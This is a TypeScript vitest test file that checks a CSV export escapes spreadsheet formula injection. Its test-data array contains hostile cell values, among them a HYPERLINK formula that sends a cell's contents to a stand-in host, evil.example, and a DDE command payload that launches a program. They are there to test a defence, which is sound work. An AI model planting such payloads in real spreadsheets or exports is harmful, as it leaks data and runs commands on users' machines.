import { describe, expect, it } from 'vitest';
import { parseText } from '@/lib/import';
import { csvCell, csvRecord } from './csv';

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(1,2)',
  "=cmd|'/c calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'quote " inside, and a comma',
  'line\nbreak and\r\nCRLF',
  'plain text',
  '',
];

async function* chunks(text: string) {
  yield text;
}

describe('CSV export cells', () => {
  it('neutralises every formula trigger, including full-width forms, and nothing else', () => {
    for (const value of HOSTILE.slice(0, 9)) expect(csvCell(value).slice(0, 2)).toBe(`"'`);
    expect(csvCell('plain text')).toBe('"plain text"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });

  it('round-trips through a strict RFC 4180 reader: every value comes back (with the quote prefix where neutralised)', async () => {
    const header = ['id', 'occurred_at', 'action', 'reason'];
    let text = csvRecord(header);
    HOSTILE.forEach(
      (value, i) => (text += csvRecord([`e${i}`, '2026-01-01T00:00:00Z', 'a.b', value])),
    );
    const reasons: (string | null | undefined)[] = [];
    for await (const record of parseText(chunks(text), 'csv')) {
      expect(record.ok).toBe(true);
      if (record.ok) reasons.push(record.event.reason);
    }
    expect(reasons).toEqual(
      HOSTILE.map((v) =>
        v === '' ? null : /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(v) ? `'${v}` : v,
      ),
    );
  });
});
